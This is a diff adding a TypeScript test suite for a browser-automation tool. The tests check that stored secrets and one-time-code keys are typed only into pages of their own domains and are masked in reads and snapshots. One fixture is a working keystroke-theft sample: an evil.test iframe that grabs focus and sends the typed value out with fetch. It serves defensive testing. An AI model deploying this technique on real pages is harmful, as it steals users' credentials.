@@ -1,0 +1,210 @@
+import type { Step, StepOf } from "@gatepost/contract/steps";
+import { afterAll, beforeAll, describe, expect, test } from "vitest";
+import { authenticatorKey } from "../../../cli/src/demo-site/one-time-code.ts";
+import { type Site, startSite } from "../../../cli/src/demo-site/server.ts";
+import { openTestBrowser, openTestSite, type Play, playSteps } from "../testing/test-browser.ts";
+import type { StoredSecrets } from "./typed-values.ts";
+
+type Value = StepOf<"FILL_INPUT">["value"];
+
+const password = "canary-horse-8-battery";
+const field = `<input id="field" oninput="seen.textContent = value"><p id="seen"></p>`;
+
+/** A page whose frame takes the focus whenever something is typed into the page. */
+const thief = (frame: string) =>
+  `<input id="field" oninput="frames[0].postMessage('focus', '*')"><iframe src="${frame}"></iframe>`;
+const thiefFrame = `<input id="stolen" oninput="fetch('/stolen?' + value)">
+  <script>onmessage = () => stolen.focus()</script>`;
+
+const stolen: string[] = [];
+
+let pages: Awaited<ReturnType<typeof openTestSite>>;
+let demo: Site;
+let browser: Awaited<ReturnType<typeof openTestBrowser>>;
+
+beforeAll(async () => {
+  demo = await startSite();
+  pages = await openTestSite({
+    "/": field,
+    "/framed": ({ url = "" }, response) => {
+      const frame = new URL(url, "http://site").searchParams.get("frame") ?? "";
+      response.writeHead(200, { "content-type": "text/html" }).end(`<h1>Page</h1><iframe src="${frame}"></iframe>`);
+    },
+    "/inline": `<iframe srcdoc='${field.replaceAll("'", "&#39;")}'></iframe>`,
+    "/sandboxed": `<iframe sandbox="allow-scripts" srcdoc='${field.replaceAll("'", "&#39;")}'></iframe>`,
+    "/thief": ({ headers }, response) => {
+      const frame = `http://evil.test:${headers.host?.split(":")[1]}/thief-frame`;
+      response.writeHead(200, { "content-type": "text/html" }).end(thief(frame));
+    },
+    "/thief-frame": thiefFrame,
+    "/stolen": ({ url = "" }, response) => {
+      stolen.push(url);
+      response.end();
+    },
+    "/menu": `<select id="field"><option>one</option><option>${password}</option></select>`,
+  });
+  browser = await openTestBrowser("127.0.0.0/8", {
+    resolve: async () => [{ address: "127.0.0.1", family: 4 }],
+  });
+});
+
+afterAll(async () => {
+  await browser?.close();
+  pages?.close();
+  await demo?.close();
+});
+
+const at = (host: string, path = "/") => `http://${host}.test:${pages.port}${path}`;
+const open = (address: string): Step => ({ type: "OPEN_PAGE", url: { permanent: address } });
+const soon = { timeout: { permanent: 2 } };
+const secret: Value = { secret: "bank password" };
+const fill = (value: Value = secret): Step => ({
+  ...{ type: "FILL_INPUT", selector: { permanent: "#field" }, value },
+  ...soon,
+});
+const type = (selector?: string): Step => ({
+  ...{ type: "TYPE_TEXT", value: secret, ...(selector && { selector: { permanent: selector } }) },
+  ...soon,
+});
+const read = (selector: string, as: string): Step => ({
+  ...{ type: "READ_TEXT", selector: { permanent: selector }, as: { permanent: as } },
+});
+const stored = (value = password, domains = ["bank.test"]): StoredSecrets =>
+  new Map([["bank password", { value, domains }]]);
+const snapshot: Step = { type: "TAKE_HTML_SNAPSHOT_BY_SELECTOR", selector: { permanent: "body" } };
+
+/** What an element of the page, or of its first frame, holds. */
+async function heldAfter(steps: Step[], selector = "#field", options: Play = {}): Promise<string[]> {
+  await using played = await playSteps(browser, steps, { stored: stored(), ...options });
+  const { page } = played.session.windows;
+  const fields = page.frames().map((frame) => frame.locator(selector).all());
+  return await Promise.all((await Promise.all(fields)).flat().map((one) => one.inputValue()));
+}
+
+async function errorOf(steps: Step[], options: Play = {}): Promise<string> {
+  const error = await heldAfter(steps, "#field", options).then(
+    () => new Error("nothing failed"),
+    (caught: Error) => caught,
+  );
+  expect(error.message).not.toContain("canary");
+  return error.message;
+}
+
+const refusal = (place: string) => `the secret "bank password" is not typed into ${place}; it was stored for bank.test`;
+
+describe("a stored secret", () => {
+  test.each([
+    ["FILL_INPUT", "bank", [fill()]],
+    ["FILL_INPUT", "www.bank", [fill()]],
+    ["TYPE_TEXT", "bank", [type("#field")]],
+    ["TYPE_TEXT without a selector", "bank", [{ type: "CLICK", selector: { permanent: "#field" } } as Step, type()]],
+  ])("is typed by %s into a page of %s.test", async (_type, host, steps) => {
+    expect(await heldAfter([open(at(host)), ...steps])).toEqual([password]);
+  });
+
+  test.each([
+    ["FILL_INPUT", [fill()]],
+    ["TYPE_TEXT", [type("#field")]],
+    ["TYPE_TEXT without a selector", [{ type: "CLICK", selector: { permanent: "#field" } } as Step, type()]],
+  ])("is typed by %s into no page of another site", async (_type, steps) => {
+    expect(await errorOf([open(at("evil")), ...steps])).toBe(refusal("a page of evil.test"));
+    expect(await errorOf([open(at("notbank")), ...steps])).toBe(refusal("a page of notbank.test"));
+  });
+
+  test("is chosen from the options of a menu on its own pages only", async () => {
+    const select: Step = { type: "SELECT_OPTION", selector: { permanent: "#field" }, value: secret, ...soon };
+    expect(await heldAfter([open(at("bank", "/menu")), select])).toEqual([password]);
+    expect(await errorOf([open(at("evil", "/menu")), select])).toBe(refusal("a page of evil.test"));
+  });
+
+  test("follows the site of the frame and not that of the page", async () => {
+    const framed = (page: string, frame: string) => open(at(page, `/framed?frame=${encodeURIComponent(at(frame))}`));
+    expect(await errorOf([framed("bank", "evil"), fill()])).toBe(refusal("a page of evil.test"));
+    expect(await heldAfter([framed("evil", "bank"), fill()])).toEqual([password]);
+  });
+
+  test("is typed into a frame that the page itself writes, and into no frame without a site", async () => {
+    expect(await heldAfter([open(at("bank", "/inline")), fill()])).toEqual([password]);
+    expect(await errorOf([open(at("evil", "/inline")), fill()])).toBe(refusal("a page of evil.test"));
+    expect(await errorOf([open(at("bank", "/sandboxed")), fill()])).toBe(refusal("a page that belongs to no site"));
+  });
+
+  test("does not follow the focus into a frame of another site", async () => {
+    const error = await errorOf([open(at("bank", "/thief")), { ...type("#field"), timeout: { permanent: 5 } } as Step]);
+    expect(error).toMatch(/is not typed into a page of evil\.test|no element has the focus/);
+    // By then it would have been there.
+    expect(await heldAfter([open(at("bank")), type("#field")])).toEqual([password]);
+    expect(stolen).toEqual([]);
+  });
+
+  test("is not typed where nothing has the focus", async () => {
+    expect(await errorOf([open(at("bank")), type()])).toBe(
+      'no element has the focus, so the secret "bank password" was not typed',
+    );
+  });
+
+  test("that is not stored is named with what to do", async () => {
+    expect(await errorOf([open(at("bank")), fill()], { stored: new Map() })).toBe(
+      'the secret "bank password" is not stored in this account: store it with saveSecret, or with gatepost secret set "bank password"',
+    );
+  });
+
+  test("is in no text, list or snapshot that the task reads, typed or not", async () => {
+    const list: Step = {
+      ...{ type: "READ_LIST", selector: { permanent: "p" }, as: { permanent: "list" } },
+      fields: { text: {}, other: { selector: { permanent: "b" } } },
+    };
+    const steps = [open(at("bank")), fill(), read("#seen", "seen"), read("#field", "field"), list, snapshot];
+    await using played = await playSteps(browser, steps, { stored: stored() });
+    expect(Object.fromEntries(played.texts)).toEqual({ seen: "…", field: "…" });
+    expect(Object.fromEntries(played.data)).toEqual({ list: [{ text: "…", other: null }] });
+    expect(Buffer.from(played.htmls[0] ?? "", "base64").toString()).not.toContain(password);
+
+    // It is there before anything is typed.
+    const untyped = [open(at("bank", "/menu")), read("#field", "menu"), snapshot];
+    await using other = await playSteps(browser, untyped, { stored: stored() });
+    expect(Buffer.from(other.htmls[0] ?? "", "base64").toString()).toMatch(/<option>•+<\/option>/);
+  });
+});
+
+describe("a one-time code", () => {
+  const page = () => open(`http://demo.test:${new URL(demo.url).port}/one-time-code`);
+  const confirm: Step[] = [
+    { type: "PRESS_KEY", key: { permanent: "Enter" } },
+    { type: "WAIT_FOR_TEXT", text: { permanent: "Your code was right" }, ...soon },
+  ];
+  const typeCode = (value: Value): Step => ({ type: "FILL_INPUT", selector: { permanent: "#code" }, value });
+  const demoKey = (value = authenticatorKey) => ({ stored: stored(value, ["demo.test"]) });
+
+  test.each([
+    ["a stored key", { totp: { secret: "bank password" } }, demoKey()],
+    [
+      "a stored URI",
+      { totp: { secret: "bank password" } },
+      demoKey(`otpauth://totp/Demo:ada?secret=${authenticatorKey}&issuer=Demo`),
+    ],
+    ["a variable's key", { totp: { variable: "key" } }, { values: { key: authenticatorKey } }],
+  ] as [string, Value, Play][])("of %s is what the site expects", async (_name, value, options) => {
+    await using _ = await playSteps(browser, [page(), typeCode(value), ...confirm], options);
+  });
+
+  test("of a stored key is typed into pages of its domains only", async () => {
+    const error = await errorOf([open(at("evil")), fill({ totp: { secret: "bank password" } })]);
+    expect(error).toBe(refusal("a page of evil.test"));
+  });
+
+  test("is one code in all boxes of a field", async () => {
+    const boxes = open(`${demo.url}/code-boxes`);
+    const value: Value = { totp: { variable: "key" } };
+    const step: Step = { type: "FILL_INPUT", selector: { permanent: ".box" }, value };
+    const options = { values: { key: authenticatorKey } };
+    const digits = await heldAfter([boxes, step], ".box", options);
+    expect(digits.join("")).toMatch(/^\d{6}$/);
+  });
+
+  test("needs a key that is one, and the error does not show it", async () => {
+    expect(await errorOf([open(at("bank")), fill({ totp: { secret: "bank password" } })])).toBe(
+      'there is no one-time code of the secret "bank password": it holds neither a Base32 key nor an otpauth URI for time-based codes',
+    );
+  });
+});
